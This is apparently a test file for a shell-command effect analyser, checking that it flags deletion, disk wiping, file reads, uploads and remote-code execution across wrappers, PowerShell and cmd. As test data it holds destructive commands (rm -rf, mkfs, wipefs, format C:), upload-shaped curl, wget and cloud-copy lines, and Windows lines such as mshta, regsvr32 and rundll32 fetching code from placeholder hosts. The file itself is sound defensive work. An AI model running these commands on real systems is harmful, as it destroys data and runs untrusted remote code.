// One example per entry of the shell tables (wrappers.ts, commands.ts, the PowerShell cmdlets), so that every entry
// is exercised and a new entry without an example fails here.
import { describe, expect, it } from "vitest";
import { analyseShell } from "../../../src/engine/shell/analyse";
import { COMMANDS } from "../../../src/engine/shell/commands/commands";
import { REMOTE_RUNNERS } from "../../../src/engine/shell/commands/transfers";
import { effectsOf } from "../../../src/engine/shell/effects";
import { formsOf } from "../../../src/engine/shell/forms";
import { displayTemplate } from "../../../src/engine/shell/words/template";
import { WRAPPERS } from "../../../src/engine/shell/commands/wrappers";

const ctx = { cwd: "/w", home: "/home/u" };

/** wrapper → a command line that uses it to run `rm -rf /x` (or, for code-string wrappers, `'rm -rf /x'`). */
const WRAPPER_EXAMPLES: Record<string, string> = {
  timeout: "timeout -s KILL 5s rm -rf /x",
  time: "time -p rm -rf /x",
  nice: "nice -n 5 rm -rf /x",
  nohup: "nohup rm -rf /x",
  stdbuf: "stdbuf -oL rm -rf /x",
  command: "command rm -rf /x",
  builtin: "builtin rm -rf /x",
  noglob: "noglob rm -rf /x",
  xargs: "xargs -n 1 rm -rf /x",
  exec: "exec -a name rm -rf /x",
  env: "env -u HOME A=1 rm -rf /x",
  sudo: "sudo -u root -E HOME=/root rm -rf /x",
  doas: "doas -u root rm -rf /x",
  su: "su - root -c 'rm -rf /x'",
  runuser: "runuser -l root -c 'rm -rf /x'",
  sg: "sg wheel -c 'rm -rf /x'",
  chroot: "chroot /srv/jail rm -rf /x",
  ionice: "ionice -c 3 rm -rf /x",
  chrt: "chrt -f 10 rm -rf /x",
  prlimit: "prlimit --nofile=10 rm -rf /x",
  taskset: "taskset 0x3 rm -rf /x",
  setsid: "setsid -f rm -rf /x",
  flock: "flock /tmp/lock rm -rf /x",
  unbuffer: "unbuffer rm -rf /x",
  nocache: "nocache rm -rf /x",
  caffeinate: "caffeinate -i rm -rf /x",
  "systemd-run": "systemd-run --user --unit=x rm -rf /x",
  "dbus-run-session": "dbus-run-session -- rm -rf /x",
  "dbus-launch": "dbus-launch rm -rf /x",
  watch: "watch -n 1 'rm -rf /x'",
  screen: "screen -dmS s rm -rf /x",
  tmux: "tmux new-session -d -s s 'rm -rf /x'",
  parallel: "parallel -j2 rm -rf /x ::: a",
  strace: "strace -f -o /dev/null rm -rf /x",
  ltrace: "ltrace -o /dev/null rm -rf /x",
  valgrind: "valgrind rm -rf /x",
  firejail: "firejail rm -rf /x",
  proxychains: "proxychains rm -rf /x",
  proxychains4: "proxychains4 -f p.conf rm -rf /x",
  torsocks: "torsocks rm -rf /x",
  unshare: "unshare --mount rm -rf /x",
  nsenter: "nsenter -t 1 rm -rf /x",
  script: "script -qc 'rm -rf /x' /dev/null",
  npx: "npx -p pkg rm -rf /x",
  bunx: "bunx rm -rf /x",
  pnpx: "pnpx rm -rf /x",
  shx: "shx rm -rf /x",
  uvx: "uvx --from x rm -rf /x",
  pipx: "pipx run rm -rf /x",
  wsl: "wsl -d Ubuntu rm -rf /x",
  busybox: "busybox rm -rf /x",
  toybox: "toybox rm -rf /x",
  ssh: "ssh -i key host 'rm -rf /x'",
  docker: "docker exec -it -u root app rm -rf /x",
  podman: "podman exec -e A=1 app rm -rf /x",
  nerdctl: "nerdctl exec -w / app rm -rf /x",
  kubectl: "kubectl exec -it deploy/api -c app -- rm -rf /x",
  oc: "oc exec pod-1 -- rm -rf /x",
  pkexec: "pkexec --user root rm -rf /x",
  fakeroot: "fakeroot -s state rm -rf /x",
  cpulimit: "cpulimit -l 10 -- rm -rf /x",
  numactl: "numactl -N 0 rm -rf /x",
  chronic: "chronic rm -rf /x",
  rlwrap: "rlwrap -a rm -rf /x",
  "xvfb-run": "xvfb-run -a -s '-screen 0 1024x768x24' rm -rf /x",
  "ssh-agent": "ssh-agent -t 60 rm -rf /x",
  entr: "entr -s 'rm -rf /x'",
  gdb: "gdb -batch -ex run --args rm -rf /x",
  lldb: "lldb -o run -- rm -rf /x",
  perf: "perf record -g -o perf.data rm -rf /x",
  hyperfine: "hyperfine -w 3 'rm -rf /x'",
  npm: "npm exec --package=rimraf -- rm -rf /x",
  pnpm: "pnpm dlx rm -rf /x",
  yarn: "yarn exec rm -rf /x",
  bun: "bun x rm -rf /x",
  uv: "uv run --with requests rm -rf /x",
  poetry: "poetry run rm -rf /x",
  pipenv: "pipenv run rm -rf /x",
  pdm: "pdm run rm -rf /x",
  hatch: "hatch run -e test rm -rf /x",
  rye: "rye run rm -rf /x",
  bundle: "bundle exec rm -rf /x",
  pyenv: "pyenv exec rm -rf /x",
  rbenv: "rbenv exec rm -rf /x",
  nodenv: "nodenv exec rm -rf /x",
  goenv: "goenv exec rm -rf /x",
  conda: "conda run -n base rm -rf /x",
  mamba: "mamba run -n base rm -rf /x",
  micromamba: "micromamba run -n base rm -rf /x",
  mise: "mise exec node@20 -- rm -rf /x",
  direnv: "direnv exec . rm -rf /x",
  nix: "nix shell nixpkgs#jq -c rm -rf /x",
  "nix-shell": "nix-shell -p jq --run 'rm -rf /x'",
  "flatpak-spawn": "flatpak-spawn --host rm -rf /x",
  "distrobox-host-exec": "distrobox-host-exec rm -rf /x",
  toolbox: "toolbox run -c dev rm -rf /x",
};

const effects = (cmd: string, dialect: "bash" | "powershell" = "bash") =>
  effectsOf(analyseShell(cmd, dialect, ctx)).map((e) => `${e.kind}${e.recursive ? "+r" : ""}${e.path !== undefined ? ` ${displayTemplate(e.path)}` : ""}`);

describe("wrappers: every entry is stripped", () => {
  it("has an example for every wrapper", () => expect(Object.keys(WRAPPERS).sort()).toEqual(Object.keys(WRAPPER_EXAMPLES).sort()));
  it.each(Object.entries(WRAPPER_EXAMPLES))("%s: %s runs rm -rf /x", (_name, cmd) => {
    const analysis = analyseShell(cmd, "bash", ctx);
    expect(formsOf(analysis, ctx.home).map((f) => f.display)).toContain("rm -rf /x");
    expect(effects(cmd)).toContain("delete+r /x");
  });
});

/** command → [example, an effect it must have ("kind[+r] path"), or [] for none]. */
const COMMAND_EXAMPLES: Record<string, [string, string[]]> = {
  rm: ["rm -rf a", ["delete+r a"]],
  rmdir: ["rmdir -p a", ["delete a"]],
  unlink: ["unlink a", ["delete a"]],
  srm: ["srm -r a", ["delete+r a"]],
  wipe: ["wipe -rf a", ["delete+r a"]],
  rimraf: ["rimraf --glob a b", ["delete+r a", "delete+r b"]],
  "del-cli": ["del-cli --force a '!a/keep'", ["delete+r a"]],
  del: ["del a", ["delete+r a"]],
  trash: ["trash -v a", ["delete+r a"]],
  "trash-put": ["trash-put --trash-dir /t a", ["delete+r a"]],
  gtrash: ["gtrash put a", ["delete+r a"]],
  gio: ["gio trash a", ["delete+r a"]],
  shred: ["shred -u a", ["write a", "delete a"]],
  find: ["find a -delete", ["delete+r a"]],
  rsync: ["rsync -a --delete src/ dst/", ["read+r src/", "write dst/", "delete+r dst/"]],
  cp: ["cp -r a b", ["read+r a", "write b"]],
  mv: ["mv a b", ["read+r a", "delete+r a", "write b"]],
  install: ["install -m 644 a b", ["read a", "write b"]],
  ln: ["ln -sf a b", ["write b"]],
  scp: ["scp a host:b", ["read a", "write b"]],
  dd: ["dd if=a of=b bs=1M", ["read a", "write b"]],
  tee: ["tee -a a", ["write a"]],
  touch: ["touch a", ["write a"]],
  truncate: ["truncate -s 0 a", ["write a"]],
  chmod: ["chmod 777 -R a", ["chmod+r a"]],
  chown: ["chown --recursive u a", ["chmod+r a"]],
  chgrp: ["chgrp -R g a", ["chmod+r a"]],
  setfacl: ["setfacl -R -m u:x:rwx a", ["chmod+r a"]],
  chattr: ["chattr -R +i a", ["chmod+r a"]],
  wc: ["wc --files0-from=a", ["read a"]],
  md5sum: ["md5sum -c a", ["read a"]],
  sha1sum: ["sha1sum --check a", ["read a"]],
  sha224sum: ["sha224sum -c a", ["read a"]],
  sha256sum: ["sha256sum -c a", ["read a"]],
  sha384sum: ["sha384sum -c a", ["read a"]],
  sha512sum: ["sha512sum -c a", ["read a"]],
  b2sum: ["b2sum -c a", ["read a"]],
  shasum: ["shasum -a 256 -c a", ["read a"]],
  cksum: ["cksum --check a", ["read a"]],
  sum: ["sum -c a", ["read a"]],
  cat: ["cat -n a", ["read a"]],
  tac: ["tac a", ["read a"]],
  less: ["less -R a", ["read a"]],
  more: ["more a", ["read a"]],
  most: ["most a", ["read a"]],
  head: ["head -n 5 a", ["read a"]],
  tail: ["tail -f a", ["read a"]],
  bat: ["bat -l sh a", ["read a"]],
  batcat: ["batcat a", ["read a"]],
  nl: ["nl a", ["read a"]],
  strings: ["strings -n 8 a", ["read a"]],
  xxd: ["xxd -l 16 a", ["read a"]],
  hexdump: ["hexdump -C a", ["read a"]],
  hd: ["hd a", ["read a"]],
  od: ["od -c a", ["read a"]],
  base64: ["base64 -w0 a", ["read a"]],
  base32: ["base32 a", ["read a"]],
  basenc: ["basenc --base64 a", ["read a"]],
  cut: ["cut -d= -f2 a", ["read a"]],
  sort: ["sort -o b a", ["read a", "write b"]],
  uniq: ["uniq -c a", ["read a"]],
  paste: ["paste -d, a", ["read a"]],
  join: ["join a b", ["read a", "read b"]],
  fold: ["fold -w 80 a", ["read a"]],
  fmt: ["fmt -w 80 a", ["read a"]],
  pr: ["pr -h t a", ["read a"]],
  column: ["column -t a", ["read a"]],
  diff: ["diff -u a b", ["read a", "read b"]],
  colordiff: ["colordiff a b", ["read a"]],
  sdiff: ["sdiff a b", ["read a"]],
  diff3: ["diff3 a b c", ["read a"]],
  cmp: ["cmp a b", ["read a"]],
  comm: ["comm -12 a b", ["read a"]],
  rev: ["rev a", ["read a"]],
  expand: ["expand -t 4 a", ["read a"]],
  iconv: ["iconv -f latin1 -t utf8 a", ["read a"]],
  zcat: ["zcat a", ["read a"]],
  bzcat: ["bzcat a", ["read a"]],
  xzcat: ["xzcat a", ["read a"]],
  zstdcat: ["zstdcat a", ["read a"]],
  zless: ["zless a", ["read a"]],
  view: ["view a", ["read a"]],
  vi: ["vi a", ["read a", "write a"]],
  vim: ["vim a", ["read a", "write a"]],
  nvim: ["nvim a", ["read a", "write a"]],
  nano: ["nano a", ["read a", "write a"]],
  emacs: ["emacs a", ["read a", "write a"]],
  ed: ["ed a", ["read a", "write a"]],
  jq: ["jq -r .x a", ["read a"]],
  grep: ["grep -rn -e KEY a", ["read+r a"]],
  egrep: ["egrep KEY a", ["read a"]],
  fgrep: ["fgrep KEY a", ["read a"]],
  zgrep: ["zgrep KEY a", ["read a"]],
  rg: ["rg -n KEY a", ["read+r a"]],
  ag: ["ag KEY a", ["read+r a"]],
  ack: ["ack KEY a", ["read+r a"]],
  ugrep: ["ugrep KEY a", ["read a"]],
  sed: ["sed -i s/x/y/ a", ["read a", "write a"]],
  awk: ["awk -F= '{print $2}' a", ["read a"]],
  gawk: ["gawk '{print}' a", ["read a"]],
  mawk: ["mawk '{print}' a", ["read a"]],
  nawk: ["nawk '{print}' a", ["read a"]],
  perl: ["perl -pi -e s/x/y/ a", ["read a", "write a"]],
  curl: ["curl -F f=@a -o b https://x", ["read a", "write b"]],
  wget: ["wget --post-file=a -O b https://x", ["read a", "write b"]],
  tar: ["tar czf out.tgz a", ["read+r a"]],
  zip: ["zip -r out.zip a", ["read+r a", "write out.zip"]],
  "7z": ["7z a out.7z a", ["read+r a", "write out.7z"]],
  unzip: ["unzip x.zip -d a", ["read x.zip", "write a"]],
  gzip: ["gzip -k a", ["read a", "write a"]],
  gpg: ["gpg -d a", ["read a"]],
  openssl: ["openssl enc -in a -out b", ["read a", "write b"]],
  git: ["git show HEAD:a", ["read a"]],
  crontab: ["crontab -u root jobs.txt", ["write /var/spool/cron/crontabs/root", "read jobs.txt"]],
  aws: ["aws s3 cp a s3://bucket/x", ["read a"]],
  gsutil: ["gsutil cp a gs://bucket/", ["read a"]],
  rclone: ["rclone copy a remote:x", ["read+r a"]],
  gh: ["gh gist create a", ["read a"]],
  sqlite3: ["sqlite3 a .dump", ["read a"]],
  yq: ["yq -i .x=1 a.yml", ["read a.yml", "write a.yml"]],
  sponge: ["sponge a", ["write a"]],
  cfdisk: ["cfdisk /dev/sda", ["write /dev/sda"]],
  newfs: ["newfs_apfs /dev/disk2s1", ["write /dev/disk2s1"]],
  ruby: ["ruby -i -pe 'gsub(/a/, \"b\")' a", ["read a", "write a"]],
  ex: ["ex -sc '%s/a/b/|x' a", ["read a", "write a"]],
  patch: ["patch a < fix.diff", ["write a", "read fix.diff"]],
  prettier: ["prettier --write a", ["write a"]],
  eslint: ["eslint --fix a", ["write a"]],
  black: ["black a", ["write a"]],
  isort: ["isort a", ["write a"]],
  autopep8: ["autopep8 -i a", ["write a"]],
  ruff: ["ruff format a", ["write a"]],
  gofmt: ["gofmt -w a", ["write a"]],
  goimports: ["goimports -w a", ["write a"]],
  rustfmt: ["rustfmt a", ["write a"]],
  "clang-format": ["clang-format -i a", ["write a"]],
  shfmt: ["shfmt -w a", ["write a"]],
  yamlfmt: ["yamlfmt a", ["write a"]],
  dos2unix: ["dos2unix a", ["write a"]],
  unix2dos: ["unix2dos a", ["write a"]],
  ddrescue: ["ddrescue --force a /dev/sdb", ["read a", "write /dev/sdb"]],
  mkfs: ["mkfs -t ext4 /dev/sda1", ["write /dev/sda1"]],
  mke2fs: ["mke2fs -L x /dev/sda1", ["write /dev/sda1"]],
  mkswap: ["mkswap /dev/sdb", ["write /dev/sdb"]],
  mkdosfs: ["mkdosfs /dev/sdb1", ["write /dev/sdb1"]],
  mkntfs: ["mkntfs -f /dev/sdb1", ["write /dev/sdb1"]],
  mkexfatfs: ["mkexfatfs /dev/sdb1", ["write /dev/sdb1"]],
  wipefs: ["wipefs -a /dev/sda", ["write /dev/sda"]],
  fdisk: ["fdisk /dev/sda", ["write /dev/sda"]],
  sfdisk: ["sfdisk /dev/sda", ["write /dev/sda"]],
  gdisk: ["gdisk /dev/sda", ["write /dev/sda"]],
  cgdisk: ["cgdisk /dev/sda", ["write /dev/sda"]],
  sgdisk: ["sgdisk --zap-all /dev/sda", ["write /dev/sda"]],
  parted: ["parted -s /dev/sda mklabel gpt", ["write /dev/sda"]],
  blkdiscard: ["blkdiscard -f /dev/nvme0n1", ["write /dev/nvme0n1"]],
  badblocks: ["badblocks -wsv /dev/sdb", ["write /dev/sdb"]],
  hdparm: ["hdparm --security-erase p /dev/sda", ["write /dev/sda"]],
  nvme: ["nvme format /dev/nvme0n1", ["write /dev/nvme0n1"]],
  cryptsetup: ["cryptsetup luksFormat /dev/sdb", ["write /dev/sdb"]],
  mdadm: ["mdadm --zero-superblock /dev/sdb", ["write /dev/sdb"]],
  pvcreate: ["pvcreate /dev/sdb", ["write /dev/sdb"]],
  pvremove: ["pvremove /dev/sdb", ["write /dev/sdb"]],
  zpool: ["zpool labelclear /dev/sdb", ["write /dev/sdb"]],
  diskutil: ["diskutil eraseDisk APFS X disk2", ["write /dev/disk2"]],
  sg_format: ["sg_format /dev/sg0", ["write /dev/sg0"]],
  flashrom: ["flashrom -w image /dev/x", ["write /dev/x"]],
};

/** Read-only uses that must have no write effect. */
const READ_ONLY: string[] = ["black --check a", "prettier --check a", "rustfmt --check a", "fdisk -l", "sfdisk -l /dev/sda", "sfdisk -d /dev/sda", "parted -l", "parted /dev/sda print", "wipefs /dev/sda", "gdisk -l /dev/sda", "sgdisk -p /dev/sda", "diskutil list", "nvme list", "hdparm -I /dev/sda", "badblocks -sv /dev/sda"];

describe("commands: every entry has effects", () => {
  it("has an example for every command", () => expect(Object.keys(COMMANDS).sort()).toEqual(Object.keys(COMMAND_EXAMPLES).sort()));
  it.each(Object.entries(COMMAND_EXAMPLES))("%s: %j", (_name, [cmd, expected]) => {
    expect(effects(cmd)).toEqual(expect.arrayContaining(expected));
  });
  it.each(READ_ONLY)("read-only: %s writes nothing", (cmd) => {
    expect(effects(cmd).filter((e) => e.startsWith("write"))).toEqual([]);
  });
  it("mkfs.* family", () => expect(effects("mkfs.ext4 -F /dev/sdb1")).toContain("write /dev/sdb1"));
  it("redirections", () => {
    expect(effects("echo x > a >> b &> c 2> d")).toEqual(expect.arrayContaining(["write a", "write b", "write c", "write d"]));
    expect(effects("sort < a")).toContain("read a");
    // A count or a digest of stdin shows none of it (as `wc -l a` reads nothing a rule cares about)…
    expect(effects("wc -l < a")).toEqual([]);
    expect(effects("sha256sum < a")).toEqual([]);
    // …unless the program prints what it reads, or a wrapper turns stdin into arguments.
    expect(effects("md5sum -c < a")).toContain("read a");
    expect(effects("xargs wc -l < a")).toContain("read a");
    expect(effects("xargs -a a wc -l")).toContain("read a");
    expect(effects("parallel gzip :::: a b")).toEqual(expect.arrayContaining(["read a", "read b"]));
    expect(effects("echo x 2>&1")).toEqual([]);
  });
});

/** Windows programs that run code from elsewhere: an example that does, and one that does not. */
const REMOTE_RUNNER_EXAMPLES: Record<string, [string, string]> = {
  mshta: ["mshta.exe https://203.0.113.9/payload.hta", "mshta local.hta"],
  regsvr32: ["regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll", "regsvr32 /s mydll.dll"],
  rundll32: ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "rundll32 shell32.dll,Control_RunDLL"],
  msiexec: ["msiexec /i https://x.example/a.msi /qn", "msiexec /i local.msi /qn"],
  wmic: ['wmic os get /format:"https://x.example/a.xsl"', "wmic os get caption"],
  cscript: ["cscript //nologo '\\\\fileserver\\share\\a.vbs'", "cscript //nologo a.vbs"],
  wscript: ["WScript.exe https://x.example/a.js", "wscript a.js"],
  deno: ["deno run https://deno.land/std/examples/welcome.ts", "deno run main.ts"],
};

describe("programs that run code from elsewhere", () => {
  it("has an example for every entry", () => expect(Object.keys(REMOTE_RUNNERS).sort()).toEqual(Object.keys(REMOTE_RUNNER_EXAMPLES).sort()));
  it.each(Object.entries(REMOTE_RUNNER_EXAMPLES))("%s", (_name, [remote, local]) => {
    expect(effects(remote)).toContain("run-download");
    expect(effects(local)).not.toContain("run-download");
    expect(effects(remote, "powershell")).toContain("run-download");
  });
});

const PS_EXAMPLES: [string, string[]][] = [
  ["Remove-Item -Recurse -Force C:\\x", ["delete+r /c/x"]],
  ["rm -r -fo C:\\x", ["delete+r /c/x"]],
  ["ri C:\\x -Rec", ["delete+r /c/x"]],
  ["Get-Content .env", ["read .env"]],
  ["gc -Raw .env", ["read .env"]],
  ["Select-String -Pattern K -Path .env", ["read .env"]],
  ["Copy-Item a b", ["read a", "write b"]],
  ["Move-Item a b", ["read+r a", "delete+r a", "write b"]],
  ["Set-Content -Path a -Value x", ["write a"]],
  ["Add-Content a x", ["write a"]],
  ["Clear-Content a", ["write a"]],
  ["Out-File -FilePath a", ["write a"]],
  ["Tee-Object -FilePath a", ["write a"]],
  ["New-Item -Path a -ItemType File", ["write a"]],
  ["Set-Acl -Path a -AclObject $acl", ["chmod a"]],
  ["Invoke-WebRequest -Uri https://x -Method Post -InFile a -OutFile b", ["read a", "write b"]],
  ["Invoke-RestMethod https://x -InFile a", ["read a"]],
  ["Compress-Archive -Path a -DestinationPath b.zip", ["read+r a", "write b.zip"]],
  ["Expand-Archive a.zip -DestinationPath b", ["read a.zip", "write b"]],
  ["Format-Volume -DriveLetter D", ["write /dev/disk-windows"]],
  ["Clear-Disk -Number 1 -RemoveData", ["write /dev/disk-windows"]],
  ["Initialize-Disk 1", ["write /dev/disk-windows"]],
  ["Remove-Partition -DiskNumber 1 -PartitionNumber 2", ["write /dev/disk-windows"]],
  ["Format-Disk 1", ["write /dev/disk-windows"]],
  ["icacls C:\\ /grant Everyone:F /T", ["chmod+r /c/"]],
  ["takeown /f C:\\x /r", ["chmod+r /c/x"]],
  ["Get-ChildItem C:\\x | Remove-Item -Recurse", ["delete+r /c/x/…"]],
  ["[System.IO.Directory]::Delete('C:\\x', $true)", ["delete+r /c/x"]],
  ["[IO.File]::ReadAllText('.env')", ["read .env"]],
  ["Start-Process cmd -ArgumentList '/c rd /s /q C:\\x'", ["delete+r /c/x"]],
  ["cmd /c \"del /s /q C:\\x\"", ["delete+r /c/x"]],
  ["format C: /q", ["write /dev/disk-windows"]],
];

describe("PowerShell and cmd", () => {
  it.each(PS_EXAMPLES)("%s", (cmd, expected) => expect(effects(cmd, "powershell")).toEqual(expect.arrayContaining(expected)));
});
